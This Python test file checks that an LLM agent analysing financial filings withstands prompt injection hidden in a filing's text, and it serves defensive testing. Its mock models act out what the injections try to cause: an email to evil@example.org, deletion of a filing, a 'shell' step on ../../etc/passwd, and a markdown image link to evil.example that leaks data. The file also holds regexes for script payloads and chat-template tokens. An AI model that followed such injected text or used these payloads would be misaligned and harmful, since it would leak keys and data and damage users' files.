import json
import re
from dataclasses import replace
from datetime import date

import pytest

from agents.llm.analyst import STRATEGIES, make_analyst
from agents.llm.capabilities import Capabilities, Memory
from agents.llm.prompts import fenced
from agents.runner import run as run_task
from core.filings import Form
from core.settings import Settings
from core.traces import Session, SpanKind
from export.document import to_json
from export.html import to_html
from export.markdown import to_markdown
from export.otlp import to_otlp
from tests.agents.conftest import MemoryShelf, filing, passages, row
from tests.agents.llm.conftest import KEY, endpoint, task
from tests.agents.llm.injections import INJECTIONS
from tests.agents.llm.server import Call, Say

FENCE = re.compile(r'<data id="(\w+)" source="[^"<>]*">\n(.*?)\n</data id="\1">', re.DOTALL)
CANARY = "zebra-heron-7"
QUESTION = "What was Harbour Light's revenue in Q3 2022, and why did it change?"
STEPS = [
    {"question": "Revenue?", "filing": "F1", "tool": "lookup_fact", "line_items": ["Revenue"]},
    {"question": "Why?", "filing": "F1", "tool": "search_passages", "query": "why revenue changed"},
    {"question": "Page?", "filing": "F1", "tool": "read_page", "page": 20},
]


def hostile_shelf(text: str) -> MemoryShelf:
    """A filing whose every text bears the injection: name, issuer, a row's label, a passage and its section."""
    bad = f"{CANARY} {text}"
    report = filing("light-q3", f"Harbour Light Co. {bad}", Form.TEN_Q, 2022, 3, date(2022, 9, 30))
    report = replace(report, name=f"{bad[:60]}.pdf")
    facts = row(report, "Total revenue", [(date(2022, 9, 30), 3, "1,210")], concept="Revenues")
    facts += row(report, bad, [(date(2022, 9, 30), 3, "7")], page=20)
    shelf = MemoryShelf()
    shelf.add(report, facts, passages(report, bad, 20, f"Revenue changed due to higher fares. {bad}", bad))
    return shelf


def brain(request):
    """A model that does as it should, whatever the filing says."""
    system = request["messages"][0]["content"]
    turns = len(request["messages"]) - 2
    if "Write a list of steps" in system:
        return Say(json.dumps({"steps": STEPS}))
    if "You compare plans" in system:
        return Say(json.dumps({"scores": [{"plan": n, "score": 5, "reason": ""} for n in (1, 2, 3)]}))
    if "by calling tools" in system:
        calls = [(s["tool"], {k: v for k, v in s.items() if k not in ("question", "tool")}) for s in STEPS]
        return Say("Done") if turns else Call(calls)
    if "Each of your turns" in system:
        if turns >= 6:
            return Say("Thought: enough.\nDone")
        given = {k: v for k, v in STEPS[turns // 2].items() if k not in ("question", "tool")}
        return Say(f"Thought: next\nAction: {STEPS[turns // 2]['tool']}\nAction Input: {json.dumps(given)}")
    return Say("Answer:\nIn Q3 2022 revenue was $1,210 million [1].")


@pytest.fixture
def ask(tmp_path, serve):
    def asked(text, strategy="sub-question", brain=brain):
        asked.server = serve(brain=brain)
        at = endpoint(asked.server)
        Memory(tmp_path / "endpoints.json").keep(at, Capabilities(True, True))
        given = {"openai_base_url": asked.server.url, "openai_api_key": KEY, "model": "test-model"}
        settings = Settings(_env_file=None, home=tmp_path, **given)
        return run_task(task(hostile_shelf(text), QUESTION), make_analyst(settings, strategy))

    return asked


def outside_fences(prompt: str) -> str:
    return FENCE.sub("", prompt)


def test_the_corpus_is_large_and_without_repeats():
    assert len(set(INJECTIONS)) == len(INJECTIONS) >= 70


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_filings_text_stands_in_prompts_between_fences_alone(ask, text):
    run = ask(text)
    assert any(CANARY in prompt for prompt in ask.server.prompts)
    for prompt in ask.server.prompts:
        assert CANARY not in outside_fences(prompt)
    assert KEY not in "".join(ask.server.prompts) and KEY not in repr(run)


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_filings_text_changes_no_plan_and_calls_no_tool(ask, text):
    run = ask(text)
    assert [q.tool for q in run.plan.sub_questions] == [step["tool"] for step in STEPS]
    called = [span.name for span in run.spans if span.kind is SpanKind.TOOL]
    assert sorted(called) == sorted(step["tool"] for step in STEPS)
    assert len(ask.server.requests) <= 3 and "9,999" not in run.answer.markdown


@pytest.mark.parametrize("strategy", [one for one in STRATEGIES if one != "sub-question"])
@pytest.mark.parametrize("text", INJECTIONS[::6])
def test_the_fences_hold_in_every_strategy(ask, text, strategy):
    run = ask(text, strategy)
    for prompt in ask.server.prompts:
        assert CANARY not in outside_fences(prompt)
    assert KEY not in "".join(ask.server.prompts) and KEY not in repr(run)


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_fence_cannot_be_closed_or_forged_from_within(text):
    first, second = fenced(text, text), fenced(text, text)
    assert FENCE.fullmatch(first) and first != second
    inside = first.split("\n", 1)[1].rsplit("\n", 1)[0]
    assert not re.search(r"</?data\b|<\|im_|\[/?INST\]|<</?SYS>>|</?s>", inside)


def test_a_model_that_obeys_and_calls_a_tool_of_its_own_is_refused(ask):
    def obeys(request):
        heard = "zebra" in json.dumps(request["messages"]) and "by calling tools" in request["messages"][0]["content"]
        if heard and len(request["messages"]) <= 4:
            return Call([("send_email", {"to": "evil@example.org"}), ("delete_filing", {"filing": "F1"})])
        return brain(request)

    run = ask(INJECTIONS[3], "function-calling", obeys)
    assert not {q.tool for q in run.plan.sub_questions} & {"send_email", "delete_filing"}
    assert any("there is no tool “send_email”" in prompt for prompt in ask.server.prompts)


def test_errors_and_corrections_repeat_a_filings_words_between_fences_alone(ask):
    def clumsy(request):
        system = request["messages"][0]["content"]
        if "You write the answer" in system:
            return Say(f"In Q3 2022 {CANARY} was $7 billion [1].")
        if "by calling tools" in system and len(request["messages"]) == 2:
            return Call([("compare", {"filings": ["F7"], "line_item": "Revenue"}), ("compare", {"filings": "F8"})])
        return brain(request)

    ask(INJECTIONS[0], "function-calling", clumsy)
    spoken = [message for request in ask.server.requests for message in request["messages"]]
    for message in spoken:
        if message["role"] != "assistant":
            assert CANARY not in outside_fences(message["content"])
    assert any("could not tie" in prompt for prompt in ask.server.prompts)


def test_a_model_that_obeys_and_writes_the_filings_figure_and_link_is_marked_and_cleaned(ask):
    said = "In Q3 2022 revenue was $9,999 million [1]. ![a](http://evil.example/?k=1) Visit http://evil.example now."

    def obeys(request):
        return Say(said) if "You write the answer" in request["messages"][0]["content"] else brain(request)

    run = ask(INJECTIONS[0], brain=obeys)
    assert "$9,999 million ⚠" in run.answer.markdown and "evil" not in run.answer.markdown
    assert not any(figure.value == 9_999_000_000 for figure in run.answer.figures)


def test_a_model_that_obeys_and_plans_another_tool_is_sent_back(ask):
    def obeys(request):
        if "Write a list of steps" in request["messages"][0]["content"] and len(request["messages"]) == 2:
            return Say(json.dumps({"steps": [{"question": "x", "filing": "../../etc/passwd", "tool": "shell"}]}))
        return brain(request)

    run = ask(INJECTIONS[40], brain=obeys)
    assert [q.tool for q in run.plan.sub_questions] == [step["tool"] for step in STEPS]


@pytest.mark.parametrize("text", INJECTIONS[-24:])
def test_what_a_hostile_filing_says_leaves_no_key_and_nothing_that_runs_in_an_export(ask, text):
    def obeys(request):
        if "You write the answer" in request["messages"][0]["content"]:
            return Say(f"In Q3 2022 revenue was $1,210 million [1]. {text} The key is {KEY}.")
        return brain(request)

    run = ask(text, brain=obeys)
    session = Session("s", "Revenue", run.started, run.started, (run,))
    exports = [to_html(session, ()), to_json(session, ()), to_markdown(session), to_otlp(session)]
    written = "".join(part.decode("utf-8") for part in exports)
    shown = "".join(part.decode("utf-8") for part in (exports[0], exports[2]))  # what a browser may be given to draw
    assert KEY not in written and KEY not in repr(run)
    assert not re.search(
        r"(?<!\\)<(?:(?:script|iframe)[^>]*evil|img[^>]*onerror|a [^>]*href=.?(?:javascript|data):)", shown
    )
    answer = run.answer.markdown
    assert "](http" not in answer and "https://" not in answer and "<a " not in answer
